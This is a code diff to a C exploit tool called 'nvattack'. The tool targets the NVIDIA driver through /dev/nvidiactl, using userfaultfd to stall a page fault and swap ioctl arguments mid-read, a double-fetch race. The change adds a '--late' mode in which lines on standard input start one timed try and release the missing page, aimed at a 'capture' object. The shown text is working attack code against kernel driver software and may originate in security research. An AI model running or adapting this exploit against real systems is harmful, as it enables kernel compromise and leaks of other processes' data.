@@ -101,6 +101,19 @@ static int report(const struct row *row, const char *claim, unsigned long calls,
 
 /* --- by a fault --- */
 
+/* Lines on the input, not the fault alone, say when the attack begins and when the missing page is given. */
+static bool late;
+
+static void wait_for_line(void)
+{
+	char one;
+
+	do {
+		if (read(STDIN_FILENO, &one, 1) != 1)
+			nv_die("nvattack: no line on the input", -EPIPE);
+	} while (one != '\n');
+}
+
 /*
  * Two pages, of which the first is missing. What is exchanged lies on the second, as far as it is there; `give` is what the first holds
  * in its last eight bytes.
@@ -121,6 +134,8 @@ static void *giver(void *unused)
 		struct uffdio_copy copy = { .dst = (uintptr_t)lure.pages, .src = (uintptr_t)lure.given, .len = PAGE };
 		unsigned i;
 
+		if (late)
+			wait_for_line();
 		for (i = 0; i < sizeof(lure.after); i++)
 			lure.second[i] = lure.after[i];
 		lure.faults++;
@@ -252,9 +267,10 @@ static int by_race(const struct row *row, double seconds)
 
 static void usage(FILE *to)
 {
-	fputs("usage: nvattack [--xfer] [--seconds S] fault|wrapping|race PID...\n"
+	fputs("usage: nvattack [--xfer] [--late] [--seconds S] fault|wrapping|race PID...\n"
 	      "  fault      part of the argument lies on a missing page; the rest is exchanged before the page is given\n"
 	      "  wrapping   the same with XFER's wrapping\n"
+	      "             --late: one try, which a line on the input begins; another one gives the page\n"
 	      "  race       a thread exchanges the argument all the time: S seconds (0.3) for each row\n"
 	      "PID...: numbers that must not come back; what asks about processes asks about them.\n",
 	      to);
@@ -263,7 +279,7 @@ static void usage(FILE *to)
 int main(int argc, char **argv)
 {
 	static const struct option options[] = {
-		{ "xfer", 0, NULL, 'x' }, { "seconds", 1, NULL, 's' },
+		{ "xfer", 0, NULL, 'x' }, { "late", 0, NULL, 'l' }, { "seconds", 1, NULL, 's' },
 		{ "help", 0, NULL, 'h' }, { NULL, 0, NULL, 0 },
 	};
 	const char *what;
@@ -274,6 +290,7 @@ int main(int argc, char **argv)
 	while ((o = getopt_long(argc, argv, "+", options, NULL)) != -1) {
 		switch (o) {
 		case 'x': way.xfer = 1; break;
+		case 'l': late = true; break;
 		case 's': seconds = strtod(optarg, NULL); break;
 		case 'h': usage(stdout); return 0;
 		default: usage(stderr); return 2;
@@ -284,7 +301,7 @@ int main(int argc, char **argv)
 		return 2;
 	}
 	what = argv[optind++];
-	if (strcmp(what, "fault") && strcmp(what, "wrapping") && strcmp(what, "race")) {
+	if (strcmp(what, "fault") && (late || (strcmp(what, "wrapping") && strcmp(what, "race")))) {
 		usage(stderr);
 		return 2;
 	}
@@ -298,6 +315,15 @@ int main(int argc, char **argv)
 	open_rows("nvattack: /dev/nvidiactl, client and objects", 1);
 	if (strcmp(what, "race"))
 		make_lure();
+	if (late) {
+		printf("ready\n");
+		fflush(stdout);
+		wait_for_line();
+		/* No driver translates this one by itself. */
+		for (r = 0; strcmp(rows[r].name, "capture");)
+			r++;
+		return by_fault(&rows[r], &claims[0], false);
+	}
 	for (r = 0; r < ROWS; r++) {
 		if (!strcmp(what, "race"))
 			any |= by_race(&rows[r], seconds);
